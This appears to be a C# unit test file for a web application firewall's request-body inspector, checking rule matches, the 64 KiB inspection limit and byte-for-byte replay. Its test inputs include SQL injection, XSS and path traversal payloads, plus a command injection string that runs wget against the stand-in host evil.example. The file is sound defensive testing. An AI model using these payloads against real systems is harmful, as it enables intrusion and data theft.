using System.Text;
using GitGateway.Proxy.Policies.Waf;
using Microsoft.AspNetCore.Http.Features;
using static GitGateway.Proxy.Tests.Policies.Waf.WafRequests;

namespace GitGateway.Proxy.Tests.Policies.Waf;

/// <summary>Form and JSON bodies: inspected up to 64 KiB, and replayed to the backend byte for byte.</summary>
public sealed class WafBodyTests
{
    [Theory]
    [InlineData("application/x-www-form-urlencoded", "user=admin%27--&pass=x", 150140)]
    [InlineData("application/x-www-form-urlencoded", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 140100)]
    [InlineData("application/json", """{"q":"1' OR '1'='1"}""", 150100)]
    [InlineData("application/json", """{"items":[{"file":"..\/..\/etc\/passwd"}]}""", 120100)]
    [InlineData("application/json", """{"<script>alert(1)</script>":1}""", 140100)]
    [InlineData("application/json", """{"cmd":"\u0060id\u0060; wget http://evil.example/x"}""", 130100)]
    [InlineData("application/vnd.api+json", """{"data":{"attributes":{"name":"x' UNION SELECT 1--"}}}""", 150110)]
    [InlineData("application/json", """{"a": """, 100150)]
    public async Task Inspect_AttackInBody_MatchesRuleAndBodyIsReplayed(string contentType, string body, int rule)
    {
        var context = Post("/api/items", contentType, body);

        var (rules, _) = await InspectAsync(context);

        Assert.Contains(rule, rules);
        Assert.Equal(body, await ReadBodyAsync(context));
    }

    [Fact]
    public async Task Inspect_PlainTextBody_IsNotParsed()
    {
        var context = Post("/api/items", "text/plain", "1' OR '1'='1");

        var (rules, _) = await InspectAsync(context);

        Assert.Empty(rules);
        Assert.Equal("1' OR '1'='1", await ReadBodyAsync(context));
    }

    [Fact]
    public async Task Inspect_BodyLongerThanLimit_InspectsThePrefixAndReplaysEverything()
    {
        var padding = new string('a', WafBodyInspector.Limit);
        var early = "q=1%27+OR+%271%27%3D%271&pad=" + padding;
        var late = "pad=" + padding + "&q=1%27+OR+%271%27%3D%271";
        var earlyContext = Post("/api/items", "application/x-www-form-urlencoded", early);
        var lateContext = Post("/api/items", "application/x-www-form-urlencoded", late);

        var earlyRules = (await InspectAsync(earlyContext)).Rules;
        var lateRules = (await InspectAsync(lateContext)).Rules;

        Assert.Contains(150100, earlyRules);
        Assert.DoesNotContain(150100, lateRules); // past the limit: not inspected, as documented
        Assert.Equal(early, await ReadBodyAsync(earlyContext));
        Assert.Equal(late, await ReadBodyAsync(lateContext));
    }

    [Fact]
    public async Task Inspect_TruncatedJson_IsNotCalledUnparsable()
    {
        var json = "{\"items\":[" + string.Join(',', Enumerable.Range(0, 20_000).Select(i => $"\"item-{i}\"")) + "]}";
        var context = Post("/api/items", "application/json", json);

        var (rules, _) = await InspectAsync(context);

        Assert.True(Encoding.UTF8.GetByteCount(json) > WafBodyInspector.Limit);
        Assert.DoesNotContain(ProtocolRules.UnparsableBody.Id, rules);
        Assert.Equal(json, await ReadBodyAsync(context));
    }

    [Fact]
    public async Task Inspect_ChunkedBodyWithoutLength_IsInspectedAndReplayed()
    {
        var body = """{"q":"<script>alert(1)</script>"}""";
        var context = Post("/api/items", "application/json", body);
        context.Request.ContentLength = null;
        context.Request.Body = new TrickleStream(Encoding.UTF8.GetBytes(body));
        context.Features.Set<IHttpRequestBodyDetectionFeature>(new ChunkedBody());

        var (rules, _) = await InspectAsync(context);

        Assert.Contains(140100, rules);
        Assert.Equal(body, await ReadBodyAsync(context));
    }

    [Fact]
    public async Task Inspect_LargeValueOfPayloadFragments_CompletesWithFindings()
    {
        // A value near the limit made of the starts of many payloads: with backtracking expressions such input is
        // where the time goes; these run in linear time, so it is inspected like any other.
        var value = string.Concat(Enumerable.Repeat("' or (( <a on <script ${ ; cat ", 1_800)) + "' or '1'='1";
        var context = Post("/api/items", "application/json", "{\"q\":\"" + value + "\"}");

        var (rules, _) = await InspectAsync(context, level: 4);

        Assert.True(value.Length < WafBodyInspector.Limit);
        Assert.Contains(150100, rules);
        Assert.Contains(140100, rules);
        Assert.Contains(130120, rules);
    }

    /// <summary>What Kestrel says of a chunked request: it has a body, of unknown length.</summary>
    private sealed class ChunkedBody : IHttpRequestBodyDetectionFeature
    {
        public bool CanHaveBody => true;
    }

    /// <summary>A body that arrives a few bytes per read, with no length, as a chunked upload does.</summary>
    private sealed class TrickleStream(byte[] bytes) : MemoryStream(bytes)
    {
        public override ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default) =>
            base.ReadAsync(buffer[..Math.Min(buffer.Length, 5)], cancellationToken);
    }
}
